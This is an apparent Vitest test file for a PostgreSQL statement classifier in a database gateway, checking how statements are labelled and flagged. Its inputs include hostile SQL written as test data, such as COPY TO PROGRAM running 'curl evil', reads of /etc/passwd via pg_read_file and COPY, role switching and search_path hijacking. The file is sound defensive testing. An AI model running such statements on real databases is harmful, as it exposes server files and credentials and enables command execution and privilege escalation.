import { beforeAll, describe, expect, it } from "vitest";
import { StatementAnalyzer, loadSqlParser } from "../sql/statement-analyzer";
import { classifyStatement, type Classification } from "./classify-statement";

beforeAll(() => loadSqlParser());
const analyzer = new StatementAnalyzer();

function classify(sql: string): Classification[] {
  const a = analyzer.analyze(sql);
  if (!a.ok) throw new Error(a.error);
  return a.statements.map(classifyStatement);
}
const classesOf = (sql: string) => classify(sql).map((c) => [...c.classes].sort());

describe("[POLICY][CLASSIFY] what a statement can do, from the parse tree", () => {
  it.each([
    ["select * from users", ["read"]],
    ['SeLeCt/**/1 from "Users"', ["read"]],
    ["insert into t values (1)", ["write"]],
    ["with gone as (delete from t returning *) select * from gone", ["read", "write"]],
    ["select 1 from t for update", ["read", "write"]],
    ["explain analyze delete from t", ["write"]],
    ["explain (analyze, format json) update t set a = 1", ["write"]],
    ["explain delete from t", ["utility"]],
    ["explain (analyze false) delete from t", ["utility"]],
    ["prepare p as delete from t", ["write"]],
    ["do $$ begin execute 'drop table t'; end $$", ["anonymous-code", "ddl", "privileges", "write"]],
    ["create function f() returns int language sql as 'select 1'", ["anonymous-code", "ddl", "privileges", "write"]],
    ["call do_things()", ["anonymous-code", "ddl", "privileges", "write"]],
    ["drop table t", ["ddl"]],
    ["alter table t add column c int", ["ddl"]],
    ["create table t2 as select * from t", ["ddl"]],
    ["select * into t3 from t", ["ddl", "read"]],
    ["truncate t", ["write"]],
    ["grant select on t to bob", ["privileges"]],
    ["revoke all on t from bob", ["privileges"]],
    ["create role eve", ["privileges"]],
    ["set role admin", ["session"]],
    ["set session authorization admin", ["session"]],
    ["begin", ["transaction"]],
    ["copy t to stdout", ["read"]],
    ["copy t from stdin", ["write"]],
  ])("%s -> %j", (sql, expected) => {
    expect(classesOf(sql)).toEqual([expected]);
  });

  it("judges every statement of a multi-statement text", () => {
    expect(classesOf("select 1; drop table t; update t set a = 1")).toEqual([["read"], ["ddl"], ["write"]]);
  });

  it("is not fooled by text that only looks dangerous", () => {
    expect(classesOf("select 'drop table users; delete from t' as s, $$truncate t$$ as d")).toEqual([["read"]]);
    expect(classify("select 'drop table users'")[0].tables).toEqual([]);
  });

  it("names the tables, schema-qualified, and the functions called", () => {
    const [c] = classify("select pg_catalog.pg_read_file('/etc/passwd'), lo_import('/x') from public.users u join orders o on o.uid = u.id");
    expect(c.tables).toEqual(["public.users", "orders"]);
    expect(c.functions).toEqual(["pg_catalog.pg_read_file", "lo_import"]);
    // Both reach files on the server, and lo_import writes a large object: as COPY FROM a server file.
    expect(c).toMatchObject({ copiesServerFile: true, classes: ["read", "write"] });
    // A sequence advanced or set is written (PostgreSQL refuses both in a read-only transaction); currval only reads.
    expect(classify("select nextval('public.Order_Seq'), setval('\"Ids\"', 4)")[0]).toMatchObject({ classes: ["read", "write"], tables: ["public.order_seq", "Ids"] });
    expect(classify("select currval('s'), lo_get(1)")[0].classes).toEqual(["read"]);
    expect(classify("update billing.invoices set a = 1")[0].tables).toEqual(["billing.invoices"]);
    expect(classify("insert into t select * from s")[0].tables).toEqual(["t", "s"]);
    expect(classify("copy secrets to stdout")[0].tables).toEqual(["secrets"]);
    expect(classify("drop table public.users, orders")[0].tables).toEqual(["public.users", "orders"]);
    expect(classify("alter table users drop column email")[0].tables).toEqual(["users"]);
  });

  it("flags writes to every row, server-file and program COPY, session settings, PREPARE and EXECUTE", () => {
    expect(classify("delete from t")[0].writesWithoutWhere).toBe(true);
    expect(classify("truncate t, u")[0].writesWithoutWhere).toBe(true);
    expect(classify("update t set a = 1 where id = 2")[0].writesWithoutWhere).toBe(false);
    expect(classify("with x as (update t set a = 1) select 1")[0].writesWithoutWhere).toBe(true);
    expect(classify("copy t from '/etc/passwd'")[0]).toMatchObject({ copiesServerFile: true, classes: ["write"] });
    expect(classify("copy t to program 'curl evil'")[0]).toMatchObject({ copiesProgram: true });
    expect(classify("set default_transaction_read_only = off")[0].sessionSettings).toEqual(["default_transaction_read_only"]);
    expect(classify("set search_path = evil, public")[0].sessionSettings).toEqual(["search_path"]);
    expect(classify("set role admin")[0].sessionSettings).toEqual(["role"]);
    expect(classify("prepare wipe as delete from t")[0]).toMatchObject({ prepares: "wipe", classes: ["write"], writesWithoutWhere: true });
    expect(classify("execute wipe")[0].executes).toBe("wipe");
  });

  it("counts a WHERE that names no column as none, and judges upserts and MERGE by the writes they run", () => {
    for (const w of ["true", "1 = 1", "$1", "exists (select 1)", "'a' = 'a'"]) expect(classify(`delete from t where ${w}`)[0].writesWithoutWhere, w).toBe(true);
    // Every row all the same: an OR with an arm that names no column, an expression compared with itself.
    for (const w of ["id = 1 or 1 = 1", "id > 0 or true", "id = id", "t.id >= t.id", "coalesce(id, 0) = coalesce(id,0)", "id is not distinct from id", "(id = id) and true", "id = 5 or (id = id)"])
      expect(classify(`delete from t where ${w}`)[0].writesWithoutWhere, w).toBe(true);
    for (const w of ["id = 1", "flag", "current of c", "exists (select 1 from u where u.id = t.id)", "id = 1 or id = 2", "id = 1 and (1 = 1 or b = 2)", "id = t.other", "id < id + 1 and id = 3"])
      expect(classify(`delete from t where ${w}`)[0].writesWithoutWhere, w).toBe(false);
    expect(classify("merge into t using s on s.id = s.id when matched then delete")[0].writesWithoutWhere).toBe(true);
    expect(classify("insert into t values (1) on conflict (id) do update set a = 1")[0]).toMatchObject({ kind: "INSERT", runs: ["UPDATE"] });
    expect(classify("insert into t values (1) on conflict do nothing")[0].runs).toEqual([]);
    // (and a SELECT: it reads s's rows)
    expect(classify("merge into t using s on t.id = s.id when matched then delete")[0]).toMatchObject({ kind: "MERGE", runs: ["DELETE", "SELECT"], writesWithoutWhere: false });
    expect(classify("merge into t using s on true when matched then update set a = 1 when not matched then insert values (1)")[0]).toMatchObject({
      runs: ["UPDATE", "INSERT", "SELECT"],
      writesWithoutWhere: true,
    });
    expect(classify("merge into t using s on 1 = 1 when matched and t.a > 1 then delete")[0].writesWithoutWhere).toBe(false);
    expect(classify("merge into t using s on t.id = s.id when not matched by source then delete")[0]).toMatchObject({ runs: ["DELETE", "SELECT"], writesWithoutWhere: true });
  });

  it("judges the SQL a function runs from text (dblink, pg_cron) and set_config as the SET it is", () => {
    expect(classify("select dblink_exec('dbname=shop', 'drop table t; delete from u')")[0]).toMatchObject({
      kind: "SELECT",
      runs: ["DROP TABLE", "DELETE"],
      tables: ["t", "u"],
      writesWithoutWhere: true,
      locks: "ACCESS EXCLUSIVE",
    });
    expect(classesOf("select * from dblink('c', $$truncate t$$) as x(a int)")[0]).toEqual(["read", "write"]);
    expect(classify("select cron.schedule('nightly', '0 3 * * *', 'delete from t')")[0].runs).toEqual(["DELETE"]);
    expect(classify("select pg_background_launch('drop table t')")[0].runs).toEqual(["DROP TABLE"]);
    // Built at run time, or not SQL the parser reads: code the gateway cannot see.
    for (const sql of ["select dblink_exec('c', 'drop ' || 'table t')", "select dblink_exec(current_setting('x.sql'))", "select dblink_exec('c', 'not sql at all')"])
      expect(classesOf(sql)[0], sql).toEqual(["anonymous-code", "ddl", "privileges", "read", "write"]);
    expect(classesOf("select dblink_connect('c', 'dbname=shop')")[0]).toEqual(["read"]);
    // Built-ins that run a query given as text, or read a table or schema named as text.
    expect(classify("select query_to_xml('select card from secrets', true, false, '')")[0].tables).toEqual(["secrets"]);
    expect(classify("select pg_catalog.query_to_xml_and_xmlschema($q$select * from billing.cards$q$, true, false, '')")[0].tables).toEqual(["billing.cards"]);
    expect(classify("select * from ts_stat('select to_tsvector(note) from secrets', 'ab')")[0].tables).toEqual(["secrets"]);
    expect(classify("select ts_rewrite('a'::tsquery, 'select t, s from aliases')")[0].tables).toEqual(["aliases"]);
    expect(classify("select table_to_xml('billing.\"Cards\"'::regclass, true, false, '')")[0].tables).toEqual(["billing.Cards"]);
    expect(classify("select * from heap_page_items(get_raw_page('secrets', 0))")[0].tables).toEqual(["secrets"]);
    expect(classify("select schema_to_xml('billing', true, false, '')")[0].everyTableOf).toEqual(["billing"]);
    expect(classify("select database_to_xmlschema(true, false, '')")[0].everyTableOf).toEqual(["*"]);
    for (const sql of ["select query_to_xml(format('select * from %I', 'secrets'), true, false, '')", "select table_to_xml('t; drop table u', true, false, '')"])
      expect(classesOf(sql)[0], sql).toContain("anonymous-code");
    expect(classesOf("select ts_rewrite('a & b'::tsquery, 'a'::tsquery, 'c'::tsquery)")[0]).toEqual(["read"]);
    expect(classesOf("explain select dblink_exec('c', 'drop table t')")[0]).toEqual(["utility"]);
    expect(classify("select pg_catalog.set_config('role', 'admin', false)")[0]).toMatchObject({ runs: ["SET"], sessionSettings: ["role"] });
    expect(classify("select set_config(name => 'SEARCH_PATH'::text, new_value => 'evil', is_local => false)")[0].sessionSettings).toEqual(["search_path"]);
    expect(classify("select set_config(current_setting('x.name'), 'admin', false)")[0]).toMatchObject({ classes: ["read", "session"], sessionSettings: ["*"] });
    expect(classify("set session authorization admin")[0].sessionSettings).toEqual(["session_authorization", "role"]);
    expect(classify("select set_config('session_authorization', 'admin', false)")[0].sessionSettings).toEqual(["session_authorization", "role"]);
  });

  it("names a CALL's procedure among its functions (judged by its body on the data path), and counts a LOADed library as touching anything", () => {
    expect(classify("call shop.purge(1, upper('x'))")[0].functions).toEqual(["shop.purge", "upper"]);
    expect(classify("load 'auto_explain'")[0]).toMatchObject({ unknownRuns: true, everyTableOf: ["*"] });
    expect(classify("call p()")[0].unknownRuns).toBeUndefined();
  });

  it("counts a read of other tables' rows by a statement of another kind as a SELECT it runs (a rule on SELECT meets COPY TO, INSERT ... SELECT, a cursor)", () => {
    const runs = (sql: string) => classify(sql)[0].runs;
    for (const sql of [
      "copy secrets to stdout",
      "copy (select * from secrets) to stdout",
      "insert into t select * from secrets",
      "create table x as select * from secrets",
      "declare c cursor for select * from secrets",
      "update t set a = s.ssn from secrets s",
      "delete from t where id in (select id from secrets)",
    ])
      expect(runs(sql), sql).toContain("SELECT");
    for (const sql of [
      "insert into t values (1)",
      "update t set a = 1 where id = 1",
      "copy t from stdin",
      "create table c (o int references secrets (id))",
      "drop table secrets",
      "create index on t (a)",
      "select * from secrets",
    ])
      expect(runs(sql), sql).not.toContain("SELECT");
    // Catalogs of sampled values read every table.
    expect(classify("select most_common_vals from pg_catalog.pg_stats where tablename = 'secrets'")[0].everyTableOf).toEqual(["*"]);
    expect(classify("select * from pg_class")[0].everyTableOf).toBeUndefined();
  });
});
